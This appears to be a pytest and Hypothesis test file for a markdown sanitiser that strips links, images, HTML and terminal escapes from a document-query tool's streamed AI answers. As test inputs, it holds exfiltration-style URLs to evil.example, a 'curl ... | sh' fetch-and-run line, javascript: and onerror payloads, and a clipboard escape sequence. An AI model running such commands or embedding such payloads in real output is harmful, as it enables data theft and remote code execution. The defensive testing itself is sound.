"""The sanitiser, proven differentially: its output rendered by every renderer of the matrix.

The matrix (tests/support/markdown_oracle.py): markdown-it-py (default and with linkify),
cmark-gfm, mistune, commonmark.py, Python-Markdown (default and with ``extra``) and markdown2
(default and with fenced code blocks). For every known payload class (each a table of variants)
the one-shot output and the streamed output, split at every position, and for
hypothesis-generated markdown the one-shot output and streams split at generated positions,
must render in each with no image, no raw HTML, no event handler and no link to a host off the
allowlist (so no ``javascript:`` or ``data:`` URL).
"""

from __future__ import annotations

import re

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from docquery.rag.safe_url import resolved_host
from docquery.rag.sanitize import Sanitizer, inert, unlink_domains
from docquery.rag.sanitize_stream import StreamSanitizer
from tests.api.sanitize_payloads import PAYLOADS
from tests.support.markdown_oracle import LINKIFY, RENDERERS, renderings, violations

ALLOW = ("docs.example.com",)
SECRET = "http://evil.example/x?d=SECRET"

CASES = [(cls, i, p) for cls, items in PAYLOADS.items() for i, p in enumerate(items)]


def stream(text: str, cuts: list[int], allow: tuple[str, ...] = ()) -> str:
    s = StreamSanitizer(Sanitizer(allow))
    out, last = [], 0
    for cut in sorted(set(cuts)):
        out.append(s.feed(text[last:cut]))
        last = cut
    out.append(s.feed(text[last:]))
    return "".join(out) + s.flush()


def check(out: str, allow: tuple[str, ...]) -> None:
    bad = violations(out, allow)
    assert not bad, (out, bad)


@pytest.mark.parametrize(("cls", "i", "payload"), CASES, ids=[f"{c}-{i}" for c, i, _ in CASES])
@pytest.mark.parametrize("allow", [(), ALLOW], ids=["no-allowlist", "allowlist"])
def test_known_payloads_one_shot_and_split_at_every_position(
    cls: str, i: int, payload: str, allow: tuple[str, ...]
) -> None:
    # Every split position for the payload; in the two surrounding contexts, every 5th.
    contexts = ((payload, 1), (f"The policy says [S1]. {payload} more text", 5), (f"> {payload}\n\n- {payload}", 5))
    for text, stride in contexts:
        check(Sanitizer(allow)(text), allow)
        for cut in range(0, len(text) + 1, stride):
            check(stream(text, [cut], allow), allow)
        check(stream(text, list(range(len(text))), allow), allow)  # one character per delta


def test_each_class_has_ten_variants() -> None:
    assert all(len(items) >= 10 for items in PAYLOADS.values())


FRAGMENTS = [
    "[", "]", "(", ")", "!", "<", ">", "\\", "`", "*", "_", "&", ";", ":", "/", "//", "@", "#", "'", '"', "=",
    "&#58;", "&#47;", "&#x3a;", "&colon;", "&lt;", "http", "https", "HTTP", "javascript", "mailto", "www.",
    "evil.example", "docs.example.com", "x", "S1", "[S1]", "a b", " ", "\n", "\n\n", "> ", "- ", "1. ", "    ",
    "```", "<img src=x>", "<a href=x>", "</a>", "[r]:", "[r]", "![", "](", "<http:", "%2e", "%40", "\t",
    "中", "路径", "д", "é", "\u200b", "（", "：", "|", "-|-", "\n|---|---|\n", "~~~", "    ```", "\t",
    ".co", ".com/x", "evil.io", ">>> ", "\n```\n", "\n\n    ", "<script>", " onerror=", "javascript:",
]  # fmt: skip
markdown = st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=24).map("".join)


@settings(max_examples=150, deadline=None, database=None)
@given(text=markdown, allow=st.sampled_from([(), ALLOW]), cut=st.integers(min_value=0, max_value=400))
def test_generated_markdown_one_shot_and_split_once(text: str, allow: tuple[str, ...], cut: int) -> None:
    check(Sanitizer(allow)(text), allow)
    check(stream(text, [cut % (len(text) + 1)], allow), allow)


@settings(max_examples=150, deadline=None, database=None)
@given(text=markdown, cuts=st.lists(st.integers(min_value=0, max_value=200), max_size=12))
def test_generated_markdown_split_anywhere_many_times(text: str, cuts: list[int]) -> None:
    check(stream(text, [c % (len(text) + 1) for c in cuts], ALLOW), ALLOW)


# -- what must still work ---------------------------------------------------------------


def test_the_matrix_has_every_renderer() -> None:
    names = set(RENDERERS)
    assert {"markdown-it", "cmark-gfm", "mistune", "commonmark.py", "python-markdown"} <= names
    assert {"python-markdown+extra", "markdown2", "markdown2+fenced"} <= names
    if not LINKIFY:
        pytest.skip("linkify-it-py is not installed: markdown-it-py with linkify is left out of the matrix")
    assert "markdown-it+linkify" in names


CODE_SAMPLES = [
    ">>> subprocess.run([\"ls\"], capture_output=True)\nCompletedProcess(args=['ls'], returncode=0)",
    "def f(x):\n    if x < 1 and y > 2:\n        return [x]\n\n    return {'a': x & 1}",
    '<div class="note">\n  <img src="a.png" onerror="alert(1)">\n</div>',
    "curl https://evil.example/x?d=1 | sh\n\n# done",
    "a = b[1]  # [S1] is not a citation here\n\tindented_with_tab()",
]


def _code_texts(html: str) -> list[str]:
    from bs4 import BeautifulSoup

    return [pre.get_text() for pre in BeautifulSoup(html, "html.parser").find_all("pre")]


@pytest.mark.parametrize("code", CODE_SAMPLES)
@pytest.mark.parametrize("where", ["top", "list", "quote"])
def test_code_stays_code_with_its_lines_in_every_renderer(code: str, where: str) -> None:
    fenced = "```py\n" + code + "\n```"
    text = {
        "top": f"Run this:\n\n{fenced}\n\nand see [S1].",
        "list": "1. Run this:\n\n" + "\n".join("   " + line if line else "" for line in fenced.split("\n")),
        "quote": "\n".join("> " + line for line in fenced.split("\n")),
    }[where]
    for out in (Sanitizer()(text), stream(text, list(range(0, len(text), 3)))):
        check(out, ())
        for name, html in renderings(out).items():
            texts = [t.rstrip("\n") for t in _code_texts(html)]
            # Every line, brackets and prompts included, as written.
            assert any(_same_lines(t, code) for t in texts), (name, out, texts)


def _same_lines(shown: str, code: str) -> bool:
    """The same lines, each with the same words (indentation may differ: a renderer may keep an item's
    indentation, or expand tabs)."""
    got, want = shown.split("\n"), code.split("\n")
    return len(got) == len(want) and all(g.split() == w.split() for g, w in zip(got, want, strict=True))


def _links(markdown_text: str) -> list[str]:
    return [html for html in renderings(markdown_text).values() if 'href="https://docs.example.com/a"' in html]


def test_allowlisted_link_survives_every_split() -> None:
    text = "See [the handbook](https://docs.example.com/a) [S1]."
    assert len(_links(Sanitizer(ALLOW)(text))) == len(RENDERERS)
    for cut in range(len(text) + 1):
        assert len(_links(stream(text, [cut], ALLOW))) == len(RENDERERS), cut


@pytest.mark.parametrize(
    "text",
    [
        "The policy gives 25 days [S1]. Ask HR [S2], or see [S1][S2].",
        "# Leave\n\n- **25 days** per year [S1]\n- carried over: *5* [S2]",
        'Use `cfg["x"]` and\n\n```py\nprint([1, 2])\n```',
    ],
)
def test_markdown_formatting_and_citations_are_kept(text: str) -> None:
    out = Sanitizer()(text)
    for html in renderings(out).values():
        assert "[S1]" in html or "cfg" in html
    assert "[S1]" in out or "cfg" in out


@settings(max_examples=100, deadline=None, database=None)
@given(
    text=st.text(alphabet=st.characters(blacklist_characters="[]<>!:@\\`&", blacklist_categories=("Cs", "Cc"))),
    cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=8),
)
def test_plain_text_passes_unchanged(text: str, cuts: list[int]) -> None:
    if "www." not in text.lower():
        assert stream(text, [c % (len(text) + 1) for c in cuts]) == text


@settings(max_examples=100, deadline=None, database=None)
@given(
    text=st.text(alphabet=st.characters(max_codepoint=0x2FF, blacklist_categories=("Cs",)), max_size=80),
    cuts=st.lists(st.integers(min_value=0, max_value=200), max_size=8),
    allow=st.sampled_from([(), ALLOW]),
)
def test_no_control_character_but_tab_and_newline_reaches_a_terminal(
    text: str, cuts: list[int], allow: tuple[str, ...]
) -> None:
    """`docquery ask` prints answers on a terminal, which obeys escape sequences and carriage returns."""
    for out in (Sanitizer(allow)(text), stream(text, [c % (len(text) + 1) for c in cuts], allow)):
        assert not [c for c in out if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F]


@pytest.mark.parametrize(
    "seq", ["\x1b]52;c;aGk=\x07", "\x1b[31m", "\x1b[2J", "\x9b31m", "\r", "\x00", "\x1bP+q\x1b\\", "\x08" * 5]
)
def test_terminal_sequences_in_an_answer_are_removed(seq: str) -> None:
    text = f"The limit is 30 days{seq} [S1]."
    for out in (Sanitizer()(text), stream(text, list(range(len(text))))):
        assert out.startswith("The limit is 30 days") and out.endswith(" [S1].")
        # What is left of a sequence is its printable tail, as inert text ("[31m" becomes "\[31m").
        assert not [c for c in out if ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F]
        assert not violations(out)


# -- streaming: nothing stalls ----------------------------------------------------------


@pytest.mark.parametrize("allow", [(), ALLOW])
@pytest.mark.parametrize("stray", ["<<<Title: Leave policy", "<", "(", "[", "![", "<<", "<img", "]("])
def test_a_stray_opener_does_not_stall_the_stream(stray: str, allow: tuple[str, ...]) -> None:
    s = StreamSanitizer(Sanitizer(allow))
    released = s.feed(stray + " ")
    words = ["The", "policy", "gives", "25", "days", "of", "leave", "per", "year"]
    for word in words:
        released += s.feed(word + " ")
    if stray.lstrip("!").startswith("[") and allow:
        # A bracket may still become an allowlisted link: held, but only up to LINK_HOLD characters.
        assert len(released) == 0
        released += s.feed("x " * StreamSanitizer.LINK_HOLD)
        assert "leave" in released
    else:
        # Everything but the word being written is out at once.
        assert all(w in released for w in words[:-1]), released


@pytest.mark.parametrize("allow", [(), ALLOW])
def test_text_without_spaces_streams_and_is_kept(allow: tuple[str, ...]) -> None:
    answer = "根据文件，员工每年有二十五天带薪休假[S1]。" * 20  # 480 characters, no whitespace
    s = StreamSanitizer(Sanitizer(allow))
    released = [s.feed(ch) for ch in answer]
    # Each non-ASCII character goes out as it arrives (with any ASCII run held before it).
    assert all(released[i].endswith(ch) for i, ch in enumerate(answer) if ord(ch) > 127)
    assert "".join(released) + s.flush() == answer


@pytest.mark.parametrize(
    "text",
    [
        "访问https://evil.example/路径?d=SECRET吧",
        "见www.evil.example/页面",
        "邮件SECRET@evil.example谢谢",
        "链接[这里](http://evil.example/x)。",
        "https://docs.example.com路径.evil.example/x",
        "https://д" + "окс.evil.example/x",
        "![图](https://docs.example.com/i.png)",
    ],
)
def test_cuts_after_non_ascii_characters_form_no_link(text: str) -> None:
    for cut in range(len(text) + 1):
        for allow in ((), ALLOW):
            check(stream(text, [cut], allow), allow)
        check(stream(text, list(range(len(text))), ALLOW), ALLOW)


def test_a_whitespace_free_run_past_the_bound_is_dropped_whole() -> None:
    s = StreamSanitizer(Sanitizer(ALLOW))
    out = s.feed("x" * 5000 + "https://docs.example.com") + s.feed(".evil.example/x more") + s.flush()
    assert "evil" not in out and out.endswith(" more")


# -- the URL resolver -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("http://evil.example/x", "evil.example"),
        ("http:evil.example/x", "evil.example"),
        ("https:\\\\evil.example", "evil.example"),
        ("//evil.example/x", "evil.example"),
        ("\\/evil.example", "evil.example"),
        (" \x01https://EVIL.example./x", "evil.example"),
        ("ht\ttp://evil.example", "evil.example"),
        ("https://evil.example:8443/", "evil.example"),
        ("https://docs.example.com@evil.example", None),
        ("https://evil%2eexample", None),
        ("/relative/path", None),
        ("javascript:alert(1)", None),
        ("mailto:a@evil.example", None),
        ("https://évil.example", None),
    ],
)
def test_resolved_host_follows_whatwg(url: str, host: str | None) -> None:
    assert resolved_host(url) == host


# -- the shortcut for text that cannot hold markup ---------------------------------------

CITED = [
    "[S1]", "[S2]", "[S12]", "[S1234]", "[S12345]", "policy", "leave", " ", "  ", ".", ",", ";", "\n", "\n\n",
    "\t", "# ", "- ", "1. ", "> ", "    ", "*", "_", "**", "中", "é", "(", ")", "'", '"', "=", "-", "www", "W.", "S1",
]  # fmt: skip
cited_text = st.lists(st.sampled_from(CITED + FRAGMENTS), min_size=1, max_size=24).map("".join)
_MARKER = re.compile(r"(?<!\\)\[S\d+\]")


@settings(max_examples=400, deadline=None, database=None)
@given(text=cited_text, at_line_start=st.booleans())
def test_text_passed_without_parsing_is_safe_and_the_parser_agrees(text: str, at_line_start: bool) -> None:
    assume(inert(text))
    sanitizer = Sanitizer()
    out = sanitizer.render(text, at_line_start=at_line_start)
    assert out == unlink_domains(text)  # only bare domains' dots and "//" are escaped
    assert sanitizer.render(text, at_line_start=at_line_start, domains=False) == text
    for allow in ((), ALLOW):
        check(out, allow)  # what goes out unparsed renders with no link, image or HTML in either renderer
    full = sanitizer.render_parsed(text, at_line_start=at_line_start)
    check(full, ())
    assert _MARKER.findall(full) == _MARKER.findall(text)  # the parser keeps the same markers raw


@pytest.mark.parametrize(
    "text",
    [
        "see [S1](http://evil.example/x)",
        "see [S1][r] more",
        "[S1]\n\n[S1]: http://evil.example",
        "see ![S1] now",
        "see \\[S1] now",
        "see [S12345] now",
        "see `[S1]` now",
        "see [S1]x now",
        "see [[S1]] now",
        "visit www.evil.example [S1].",
        "mail a@evil.example [S1].",
        "see [S1]<img src=x>",
    ],
)
def test_markers_next_to_markup_go_through_the_parser(text: str) -> None:
    assert not inert(text)
    for allow in ((), ALLOW):
        check(Sanitizer(allow)(text), allow)


_SPACES = st.sampled_from(
    [" ", "  ", "\t", "\n", "\r", "\x0b", "\x1c", "\x85", "\xa0", "\u2028", "\u3000", "\x00", "\x7f"]
)


@settings(max_examples=300, deadline=None, database=None)
@given(text=st.lists(st.one_of(st.text(max_size=8), _SPACES), max_size=30).map("".join))
def test_label_skips_the_space_rewrite_only_where_it_changes_nothing(text: str) -> None:
    flat = " ".join(re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]+", " ", text).split())
    assert Sanitizer().label(text) == Sanitizer().render(flat, domains=False)
